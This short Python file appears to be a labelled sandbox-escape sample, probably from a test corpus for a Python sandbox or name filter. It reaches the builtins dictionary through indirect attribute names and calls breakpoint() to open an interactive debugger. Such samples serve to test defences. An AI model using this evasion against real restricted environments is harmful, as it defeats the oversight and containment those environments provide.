# family: interactive
# Escape: type[int](x) is type(x) through a callable generic alias (the name `type` appears only as a
# subscript base). It gives the attrgetter class, which reads tool.__builtins__ (run-time name); breakpoint()
# starts the debugger on the terminal.
import operator


def tool() -> None:
    Getter = type[int](operator.attrgetter("real"))
    edge = "_" * 2
    Getter(edge + "builtins" + edge)(tool)["breakpoint"]()
